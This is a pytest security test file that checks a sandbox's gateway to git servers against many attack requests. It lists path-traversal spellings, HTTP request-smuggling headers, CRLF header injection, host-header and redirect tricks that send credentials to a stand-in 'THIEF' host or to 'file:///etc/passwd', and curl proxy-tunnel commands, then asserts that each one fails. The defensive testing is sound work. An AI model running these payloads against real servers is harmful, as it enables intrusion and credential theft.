"""From code in a box, through the routes to git servers, at what they are not for."""

from __future__ import annotations

import gzip
import itertools
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, NamedTuple

import pytest

from tests.support.gitserver import TOKEN, USER
from tests.support.needles import leaks
from tests.support.routed import (
    BASIC,
    BATCH,
    FETCH,
    HERE,
    LOCKS,
    MINE,
    OTHER,
    PUSH,
    PUSH_REFS,
    READABLE,
    REFS,
    head,
)
from tests.support.webserver import Trouble, echoed, redirect

if TYPE_CHECKING:
    from tests.support.routed import Routed
    from tests.support.webserver import Asked

numbers = itertools.count()


class Attack(NamedTuple):
    """What is said, with FORGE for the git server's address, THIEF for another one's here."""

    name: str
    words: str
    trouble: Trouble | None = None
    """What the git server does then."""


def ask(name: str, target: str, *headers: str, method: str = "GET", host: str = HERE) -> Attack:
    return Attack(name, head(method, target, *headers, "Connection: close", host=host))


def post(name: str, target: str, body: str | bytes, *headers: str) -> Attack:
    data = body.encode() if isinstance(body, str) else body
    length = f"Content-Length: {len(data)}"
    escaped = "".join(rf"\x{byte:02x}" for byte in data)
    return Attack(name, head("POST", target, *headers, length, "Connection: close") + escaped)


def batch(name: str, operation: str, *headers: str, route: str = "reading/me/read.git") -> Attack:
    """To a route that is for reading; `operation` is the JSON that says what is wanted."""
    wanted = f'{{{operation}, "objects": [{{"oid": "{"a" * 64}", "size": 5}}]}}'
    kind = "Content-Type: application/vnd.git-lfs+json"
    return post(name, f"/{route}{BATCH}", wanted, kind, *headers)


def hidden(name: str, *headers: str, body: str) -> Attack:
    """A request to another repository that the git server might see, or the gateway might not."""
    outer = head("POST", f"/app/{MINE}/{FETCH}", *headers)
    inner = head("GET", f"/{OTHER}{REFS}", f"Authorization: {BASIC}")
    through = head("GET", f"/app/{OTHER}{REFS}", "Connection: close")
    return Attack(f"hide a request {name}", outer + body + inner + through)


def stealing(name: str, trouble: Trouble, what: str = REFS) -> Attack:
    """While the git server answers like this; of a repository that nobody else asks for."""
    trouble.where = f"/me/test-{next(numbers)}.git"
    return Attack(name, head("GET", f"/app{trouble.where}{what}", "Connection: close"), trouble)


def answering(status: int, kind: str = "text/plain", **headers: str) -> Trouble:
    """With all that it was asked, as some do to help."""
    more = {name.replace("_", "-"): value for name, value in headers.items()}
    return Trouble("", status, {"Content-Type": kind, **more}, echoed, times=2)


def leading(to: str, status: int = 302) -> Trouble:
    """Elsewhere."""
    return redirect("", to, status, times=2)


SPELLINGS = {
    "two dots": f"me/app.git/../other.git{REFS}",
    "two dots, escaped": f"me/app.git/%2e%2e/other.git{REFS}",
    "two dots, half escaped": f"me/app.git/.%2E/other.git{REFS}",
    "two dots, escaped twice": f"me/app.git/%252e%252e/other.git{REFS}",
    "an escaped slash": f"me/app.git%2f..%2fother.git{REFS}",
    "a backslash": rf"me/app.git/..\\other.git{REFS}",
    "an escaped backslash": f"me/app.git/..%5cother.git{REFS}",
    "a semicolon": f"me/app.git/..;/other.git{REFS}",
    "a parameter": f"me/other.git;/me/app.git{REFS}",
    "a fragment": f"me/other.git{REFS}#/me/app.git{REFS}",
    "an escaped fragment": f"me/other.git%23/me/app.git{REFS}",
    "a query": f"me/other.git?/me/app.git{REFS}",
    "an escaped query": f"me/other.git%3f/me/app.git{REFS}",
    "a NUL": rf"me/other.git\x00/me/app.git{REFS}",
    "an escaped NUL": f"me/other.git%00/me/app.git{REFS}",
    "an overlong UTF-8 dot": f"me/app.git/%c0%ae%c0%ae/other.git{REFS}",
    "raw bytes of such a dot": rf"me/app.git/\xc0\xae\xc0\xae/other.git{REFS}",
    "wide dots": f"me/app.git/%ef%bc%8e%ef%bc%8e/other.git{REFS}",
    "a wide slash": rf"me/app.git\xef\xbc\x8f..\xef\xbc\x8fother.git{REFS}",
    "an escaped name": f"me/%6fther.git{REFS}",
    "dots behind the service": f"me/app.git/info/refs/../../../other.git{REFS}",
    "dots behind LFS": f"me/app.git/info/lfs/../../../other.git{REFS}",
    "an empty step": f"me/app.git//../other.git{REFS}",
    "a space": f"me/other.git{REFS} /me/app.git",
    "a tab": rf"me/other.git\t/me/app.git{REFS}",
    "a repository inside": f"me/app.git/me/other.git{REFS}",
    "a repository's ending twice": f"me/other.git.git{REFS}",
    "a name that begins alike": f"me/app2.git{REFS}",
    "a name that ends alike": f"you/me/app.git{REFS}",
    "large letters": f"ME/APP.git{REFS}",
    "its wiki": f"me/app.wiki.git{REFS}",
    "a second service": f"me/other.git{REFS}&service={PUSH}",
    "a repository in the query": f"me/app.git{REFS}&repository=me/other",
    "a long name": f"me/app.git/{'x/' * 900}../other.git{REFS}",
    "a very long name": f"me/{'x' * 70_000}/../other.git{REFS}",
    "no name": f"{REFS}",
    "a dot": f"./me/other.git{REFS}",
}

LFS_WRITES = {
    "uploads": '"operation": "upload"',
    "uploads, said last": '"operation": "download", "operation": "upload"',
    "uploads, said first": '"operation": "upload", "operation": "download"',
    "uploads, with an escape": r'"operation": "\\u0075pload"',
    "uploads, with an escape in the key": r'"\\u006fperation": "upload"',
    "uploads, in large letters": '"operation": "UPLOAD"',
    "uploads, as a list": '"operation": ["upload"]',
    "nothing": '"operation": null',
}

ATTACKS = [
    # Other repositories
    ask("list another repository", f"/app/{OTHER}{REFS}"),
    ask("list another repository to push", f"/app/{OTHER}{PUSH_REFS}"),
    post("fetch another repository", f"/app/{OTHER}/{FETCH}", "0000"),
    post("push to another repository", f"/app/{OTHER}/{PUSH}", "0000"),
    batch("ask for LFS of another one", '"operation": "download"', route=f"app/{OTHER}"),
    ask("ask for locks of another one", f"/app/{OTHER}{LOCKS}"),
    *(ask(f"name another repository by {how}", f"/app/{path}") for how, path in SPELLINGS.items()),
    # Other routes
    *(
        ask(f"take {what}", f"/{route}/{OTHER}{REFS}")
        for route, what in {
            "theirs": "the route of somebody else",
            "unlisted": "a route that the box was made without",
            "none": "a route that there is not",
            "app/../unlisted": "another route by two dots",
            "app/%2e%2e/unlisted": "another route by escaped dots",
            "unlisted%2f..%2fapp": "another route by escaped slashes",
            "UNLISTED": "a route in large letters",
            "/unlisted": "a route behind two slashes",
            "un%6cisted": "a route by an escape",
            "": "no route",
        }.items()
    ),
    # Other methods, and writing where one may read
    *(
        ask(f"ask by {method}", f"/app/{MINE}{REFS}", method=method)
        for method in (
            "POST",
            "PUT",
            "DELETE",
            "PATCH",
            "HEAD",
            "OPTIONS",
            "TRACE",
            "get",
            "G\\x01T",
        )
    ),
    ask("fetch by GET", f"/app/{MINE}/{FETCH}"),
    ask("say another method in a header", f"/app/{MINE}{REFS}", "X-HTTP-Method-Override: DELETE"),
    ask("list to push where one may read", f"/reading/{READABLE}{PUSH_REFS}"),
    ask("list to push by a second service", f"/reading/{READABLE}{REFS}&service={PUSH}"),
    ask("list to push by an escape", f"/reading/{READABLE}/info/refs?service=git%2Dreceive-pack"),
    post("push where one may read", f"/reading/{READABLE}/{PUSH}", "0000"),
    post("lock where one may read", f"/reading/{READABLE}{LOCKS}", '{"path": "x"}'),
    post("unlock where one may read", f"/reading/{READABLE}{LOCKS}/abc/unlock", "{}"),
    *(batch(f"ask for {what} where one may read", asked) for what, asked in LFS_WRITES.items()),
    post(
        "ask for uploads, compressed, where one may read",
        f"/reading/{READABLE}{BATCH}",
        gzip.compress(b'{"operation": "upload", "objects": []}'),
        *("Content-Encoding: gzip", "Content-Type: application/vnd.git-lfs+json"),
    ),
    post(
        "ask for uploads in UTF-16 where one may read",
        f"/reading/{READABLE}{BATCH}",
        '{"operation": "upload", "objects": []}'.encode("utf-16"),
    ),
    post("ask for uploads by no JSON", f"/reading/{READABLE}{BATCH}", b"[" * 50_000),
    # What is no git
    *(
        ask(f"ask for {path}", f"/app/{path}")
        for path in (
            "api/v3/user",
            "api/v4/projects",
            "graphql",
            "me/app",
            "me/app.git",
            "me/app/settings",
            f"{MINE}/HEAD",
            f"{MINE}/config",
            f"{MINE}/objects/info/packs",
            f"{MINE}/info/refs",
            f"{MINE}/info/refs?service=git-upload-archive",
            f"{MINE}/archive/main.tar.gz",
            f"{MINE}/raw/main/README.md",
            f"{MINE}/info/lfs/objects/{'a' * 64}",
            "lfs-objects/" + "a" * 64,
        )
    ),
    # Other hosts
    ask("ask another host by its whole address", "http://THIEF/app/me/app.git" + REFS),
    ask("ask the git server by its whole address", f"http://FORGE/{OTHER}{REFS}"),
    ask("ask another host by two slashes", f"//THIEF/{MINE}{REFS}"),
    ask("ask another host by two slashes behind a route", f"/app//THIEF/{MINE}{REFS}"),
    ask("ask another host by an address behind a route", f"/app/http://THIEF/{MINE}{REFS}"),
    ask("ask another host by a user's sign", f"/app/@THIEF/{MINE}{REFS}"),
    ask("ask another host by a user's sign and no slash", f"/app@THIEF/{MINE}{REFS}"),
    ask("ask another host by the header", f"/app/{MINE}{REFS}", host="THIEF"),
    ask("name two hosts", f"/app/{MINE}{REFS}", "Host: THIEF"),
    ask("name another host that forwards", f"/app/{MINE}{REFS}", "X-Forwarded-Host: THIEF"),
    ask("ask the git server by the header", f"/{OTHER}{REFS}", host="FORGE"),
    *(
        Attack(f"make a tunnel to {what}", head("CONNECT", what) + head("GET", f"/{OTHER}{REFS}"))
        for what in ("THIEF", "FORGE")
    ),
    # Two requests, or one?
    hidden(
        "behind a length and chunks",
        "Content-Length: 4",
        "Transfer-Encoding: chunked",
        body=r"0\r\n\r\n",
    ),
    hidden(
        "behind chunks and a length",
        "Transfer-Encoding: chunked",
        "Content-Length: 4",
        body=r"0\r\n\r\n",
    ),
    hidden("behind two lengths", "Content-Length: 0", "Content-Length: 999", body=""),
    hidden("behind one of two equal lengths", "Content-Length: 0, 0", body=""),
    hidden("behind a length with a sign", "Content-Length: +0", body=""),
    hidden("behind a length with a space", "Content-Length : 0", body=""),
    hidden("behind a length below nothing", "Content-Length: -1", body=""),
    hidden("behind a body of the right length", "Content-Length: 4", body="0000"),
    hidden("behind the last chunk", "Transfer-Encoding: chunked", body=r"4\r\n0000\r\n0\r\n\r\n"),
    hidden("behind a chunk's extension", "Transfer-Encoding: chunked", body=r"0;\nx\r\n\r\n"),
    hidden("behind a chunk of no size", "Transfer-Encoding: chunked", body=r"-1\r\n\r\n"),
    hidden("behind an endless chunk", "Transfer-Encoding: chunked", body=r"ffffffffffffffffff\r\n"),
    hidden(
        "behind a chunk's trailer",
        "Transfer-Encoding: chunked",
        body=r"0\r\nContent-Length: 9\r\n\r\n",
    ),
    hidden("behind an odd coding", "Transfer-Encoding: xchunked", body=r"0\r\n\r\n"),
    hidden("behind two codings", "Transfer-Encoding: chunked, identity", body=r"0\r\n\r\n"),
    hidden(
        "behind a coding twice",
        "Transfer-Encoding: chunked",
        "Transfer-Encoding: x",
        body=r"0\r\n\r\n",
    ),
    hidden(
        "behind a folded header",
        r"Transfer-Encoding:\r\n chunked",
        "Content-Length: 5",
        body=r"0\r\n\r\n",
    ),
    hidden(
        "behind a header with a space",
        "Transfer-Encoding : chunked",
        "Content-Length: 5",
        body=r"0\r\n\r\n",
    ),
    hidden(
        "behind a bare line feed",
        r"X: y\nTransfer-Encoding: chunked",
        "Content-Length: 5",
        body=r"0\r\n\r\n",
    ),
    hidden(
        "behind a bare return",
        r"X: y\rTransfer-Encoding: chunked",
        "Content-Length: 5",
        body=r"0\r\n\r\n",
    ),
    hidden("behind what is to be continued", "Expect: 100-continue", "Content-Length: 0", body=""),
    hidden(
        "behind a change of protocol",
        "Connection: Upgrade",
        "Upgrade: h2c",
        "Content-Length: 0",
        body="",
    ),
    hidden(
        "behind a websocket",
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Content-Length: 0",
        body="",
    ),
    Attack(
        "ask twice at once", head("GET", f"/app/{MINE}{REFS}") + head("GET", f"/app/{OTHER}{REFS}")
    ),
    Attack("ask by HTTP/0.9", rf"GET /app/{OTHER}{REFS}\r\n"),
    Attack("ask by HTTP/1.0", rf"GET /app/{OTHER}{REFS} HTTP/1.0\r\n\r\n"),
    Attack(
        "ask by HTTP/2", r"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"
    ),
    Attack("speak TLS", r"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03"),
    # Headers of one's own
    ask(
        "send a header behind a return", f"/app/{MINE}{REFS}", r"Git-Protocol: version=2\rX-Evil: 1"
    ),
    ask("send a header behind a feed", f"/app/{MINE}{REFS}", r"Git-Protocol: version=2\nX-Evil: 1"),
    ask("send a header in the address", rf"/app/{MINE}{REFS}%0d%0aX-Evil:%201"),
    ask("send a header in the address as it is", rf"/app/{MINE}{REFS}\r\nX-Evil: 1"),
    ask("send a header in the locks' query", f"/app/{MINE}{LOCKS}?path=x%0d%0aX-Evil:%201"),
    ask("send a header with a NUL", f"/app/{MINE}{REFS}", r"User-Agent: x\x00\r\nX-Evil: 1"),
    ask("send a password of one's own", f"/app/{MINE}{REFS}", "Authorization: Basic bWU6bWU="),
    ask("send a proxy's password", f"/app/{MINE}{REFS}", "Proxy-Authorization: Basic bWU6bWU="),
    ask("send cookies", f"/app/{MINE}{REFS}", "Cookie: session=mine"),
    ask("have the credential dropped", f"/app/{MINE}{REFS}", "Connection: authorization, host"),
    ask(
        "send odd headers", f"/app/{MINE}{REFS}", "X-Original-URL: /me/other.git", "Via: x", "TE: x"
    ),
    # To be told the credential
    *(
        stealing(f"be told what was asked by {status}", answering(status))
        for status in (200, 400, 401, 403, 404, 407, 429, 500, 503)
    ),
    stealing(
        "be told by what looks like git", answering(200, f"application/x-{FETCH}-advertisement")
    ),
    stealing(
        "be told in headers",
        answering(
            200, f"application/x-{FETCH}-advertisement", X_Echo=BASIC, ETag=TOKEN, Server=BASIC
        ),
    ),
    stealing("be told in a header of git's", answering(200, BASIC)),
    stealing("be told in a demand", answering(401, WWW_Authenticate=f'Basic realm="{TOKEN}"')),
    stealing("be told in a cookie", answering(200, Set_Cookie=f"token={TOKEN}")),
    stealing(
        "be told in the caches' header", answering(500, Cache_Control=TOKEN, Retry_After=TOKEN)
    ),
    stealing("be told of LFS locks", answering(200, "application/vnd.git-lfs+json"), LOCKS),
    stealing(
        "be told of LFS locks' failure", answering(500, "application/vnd.git-lfs+json"), LOCKS
    ),
    # To have it sent elsewhere
    *(
        stealing(
            f"have it sent elsewhere by {status}", leading(f"http://THIEF/{MINE}{REFS}", status)
        )
        for status in (301, 302, 303, 307, 308)
    ),
    stealing("have it sent to another repository", leading(f"http://FORGE/{OTHER}{REFS}")),
    stealing("have it sent to another service", leading(f"http://FORGE/{MINE}{PUSH_REFS}")),
    stealing("have it sent to the API", leading("http://FORGE/api/v3/user")),
    stealing("have it sent to the box", leading(f"http://127.0.0.1:8888/{MINE}{REFS}")),
    stealing("be told in a redirect", leading(f"http://FORGE/{MINE}{REFS}&token={TOKEN}")),
    stealing(
        "be told in a redirect elsewhere", leading(f"http://x:{TOKEN}@127.0.0.1:8888/{MINE}{REFS}")
    ),
    stealing("have it sent by an address without a scheme", leading("//127.0.0.1:8888/me")),
    stealing("have it sent to another scheme", leading("file:///etc/passwd")),
    stealing("have it sent nowhere", leading("http://[::1")),
    stealing("have a header sent", leading(f"http://FORGE/{MINE}{REFS}%0d%0aX-Evil:1")),
]

COMMANDS = {
    "use it as a proxy": f"-x http://{HERE} http://THIEF/{OTHER}{REFS}",
    "use it as a proxy by SOCKS": f"-x socks5h://{HERE} http://THIEF/{OTHER}{REFS}",
    "use it for a tunnel": f"-p -x http://{HERE} http://FORGE/{OTHER}{REFS}",
    "ask this machine's ports themselves": "--noproxy '*' http://THIEF/",
    "ask another box's routes": f"http://SIBLING:3129/unlisted/{OTHER}{REFS}",
    "speak HTTP/2": f"--http2-prior-knowledge http://{HERE}/app/{OTHER}{REFS}",
    "change to HTTP/2": f"--http2 http://{HERE}/app/{OTHER}{REFS}",
    "speak TLS": f"-k https://{HERE}/app/{OTHER}{REFS}",
}
"""What curl is told."""

ANSWERED = (
    *("say another method", "name another host that forwards", "hide a request behind a body"),
    *("hide a request behind the last chunk", "hide a request behind a change"),
    *("hide a request behind a websocket", "hide a request behind what", "ask twice"),
    *("send a password", "send a proxy's", "send cookies", "have the credential dropped"),
    *("send odd headers", "hide a request behind one of two equal", "send a header in the locks"),
    "ask for uploads, said first",  # it is written anew, for downloads
)
"""How attacks begin that are answered: their first request is as it should be."""

TWINS = {
    "list one's own repository": head("GET", f"/app/{MINE}{REFS}", "Connection: close"),
    "list it to push": head("GET", f"/app/{MINE}{PUSH_REFS}", "Connection: close"),
    "list what one may read": head("GET", f"/reading/{READABLE}{REFS}", "Connection: close"),
    "ask for its locks": head("GET", f"/app/{MINE}{LOCKS}", "Connection: close"),
    "ask twice at once": head("GET", f"/app/{MINE}{REFS}")
    + head("GET", f"/reading/{READABLE}{REFS}", "Connection: close"),
}


@dataclass
class Played:
    """What came of one attack: what it got, and what the git server heard meanwhile."""

    got: list[str] = field(default_factory=list[str])
    heard: list[Asked] = field(default_factory=list["Asked"])


@pytest.fixture(scope="module")
async def played(routed: Routed) -> dict[str, Played]:
    """All attacks, made by the box's user and by its root; between two of them stands a mark."""
    played = {attack.name: Played() for attack in ATTACKS}
    assert len(played) == len(ATTACKS)
    for attack in ATTACKS:
        if (trouble := attack.trouble) is not None:
            led = {name: routed.placed(value) for name, value in trouble.headers.items()}
            routed.forge.web.fail(replace(trouble, headers=led))
    marks = [
        head("GET", f"/reading/{READABLE}{LOCKS}", f"User-Agent: {number}", "Connection: close")
        for number in range(len(ATTACKS))
    ]
    for who in ("", "sudo -n"):
        routed.forge.web.forget()
        words = zip(marks, (attack.words for attack in ATTACKS), strict=True)
        answers = await routed.say([*itertools.chain.from_iterable(words)], who=who)
        current = None
        for asked in routed.forge.web.asked:
            if asked.header("User-Agent").isdigit():
                current = played[ATTACKS[int(asked.header("User-Agent"))].name]
            else:
                assert current is not None
                current.heard.append(asked)
        for attack, mark, answer in zip(ATTACKS, answers[::2], answers[1::2], strict=True):
            assert mark.startswith("HTTP/1.1 200 ")
            played[attack.name].got.append(answer)
    return played


@pytest.mark.parametrize("attack", ATTACKS, ids=[one.name for one in ATTACKS])
async def test_a_box_can_not(attack: Attack, played: dict[str, Played], routed: Routed):
    came = played[attack.name]
    assert len(came.got) == 2
    assert routed.beyond(came.heard) == []
    assert not leaks("".join(came.got), [TOKEN, routed.other])
    if not attack.name.startswith(ANSWERED):
        assert not any(got.startswith("HTTP/1.1 2") for got in came.got)
    if attack.trouble is not None:
        assert len(came.heard) == 2
        assert all(got.startswith("HTTP/1.1 ") for got in came.got)


async def test_a_box_with_all_routes_of_its_owner_has_nobody_elses(routed: Routed):
    routed.forget()
    await routed.server.tell("box_create", name="loose")
    url = f"http://{HERE}/theirs/{OTHER}{REFS}"
    got = await routed.run(f"curl -sSi {url}", "loose")
    assert got.startswith("HTTP/1.1 404 ")
    assert not routed.forge.web.asked
    own = await routed.run(f"curl -sSi {url.replace('theirs', 'unlisted')}", "loose")
    assert leaks(own, [routed.other])


@pytest.mark.parametrize("command", COMMANDS.values(), ids=COMMANDS)
async def test_nor_can_it(command: str, routed: Routed):
    routed.forget()
    curl = routed.placed(f"curl -sSi --max-time 5 {command}; true")
    got = await routed.run(curl) + await routed.run(f"sudo -n {curl}")
    assert routed.beyond() == []
    assert not leaks(got, [TOKEN, routed.other])


async def test_nobody_else_on_this_machine_hears_of_it(played: dict[str, Played], routed: Routed):
    assert routed.thief.connections == 0


@pytest.mark.parametrize("words", TWINS.values(), ids=TWINS)
async def test_but_it_may(words: str, routed: Routed):
    routed.forget()
    (got,) = await routed.say([words])
    assert got.startswith("HTTP/1.1 200 ")
    assert routed.forge.web.asked
    assert routed.beyond() == []
    assert {asked.who for asked in routed.forge.web.asked} == {USER}
    assert not leaks(got, [TOKEN])
